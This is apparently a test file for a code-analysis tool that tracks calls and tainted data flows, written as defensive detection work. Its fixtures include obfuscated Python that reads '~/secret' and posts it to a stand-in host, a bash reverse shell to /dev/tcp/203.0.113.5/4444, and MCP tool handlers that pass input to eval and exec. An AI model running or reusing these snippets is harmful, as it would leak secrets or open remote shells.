import type { TaintProbe } from '@clawback/model'
import { expect, it } from 'vitest'

import { calls, factsOf, flows } from '../testkit.js'

it('follows a method looked up by name like the method', async () => {
  const facts = await factsOf({
    'a.py':
      'import requests\nf = open("~/secret")\ngetattr(requests, "po" + "st")("https://a.example", data=getattr(f, "re" + "ad")())\n',
  })
  expect(calls(facts)).toContain('3 requests.post(https://a.example, data=?)')
  expect(flows(facts)).not.toEqual([])
})

it('an import by a dotted name gives the first part of it', async () => {
  const facts = await factsOf({
    'a.py':
      'urllib = __import__("".join(["urllib", ".request"]))\nurllib.request.urlopen("https://a.example")\n',
  })
  expect(calls(facts)).toContain('2 urllib.request.urlopen(https://a.example)')
})

it('follows a parameter that names a parameter, and output to a device', async () => {
  const facts = await factsOf({
    'a.sh': 'V=curl\nN=V\n${!N} https://a.example\nbash -i >& /dev/tcp/203.0.113.5/4444 2>&1\n',
  })
  expect(calls(facts)).toEqual(
    expect.arrayContaining(['3 curl(https://a.example)', '4 bash(-i)', '4 >(/dev/tcp/203.0.113.5/4444)']),
  )
})

it('marks what a tool is called with, however it is registered', async () => {
  const probe: TaintProbe = {
    kind: 'taint',
    id: 'inputs',
    pack: 'test',
    tags: [],
    language: '*',
    sources: [{ pattern: 'tool.input', tag: 'tool-input' }],
    sinks: [
      { pattern: 'eval', tag: 'code' },
      { pattern: 'child_process.exec', tag: 'shell' },
    ],
    sanitizers: ['int'],
  }
  const found = async (path: string, text: string): Promise<number> =>
    flows(await factsOf({ [path]: text }, [probe])).length
  expect(
    await found(
      'a.py',
      'from mcp import FastMCP\napp = FastMCP("a")\n@app.tool()\ndef run(x: str):\n    """Runs."""\n    return eval(x)\n',
    ),
  ).toBe(1)
  expect(
    await found(
      'a.py',
      'from mcp import FastMCP\napp = FastMCP("a")\n@app.tool()\ndef run(x: str):\n    """Runs."""\n    return eval(str(int(x)))\n',
    ),
  ).toBe(0)
  expect(await found('b.py', 'def run(x):\n    return eval(x)\n')).toBe(0)
  expect(
    await found(
      'a.js',
      'import { exec } from "child_process"\nserver.tool("run", "Runs.", {}, async ({ line }) => exec(line))\n',
    ),
  ).toBe(1)
})
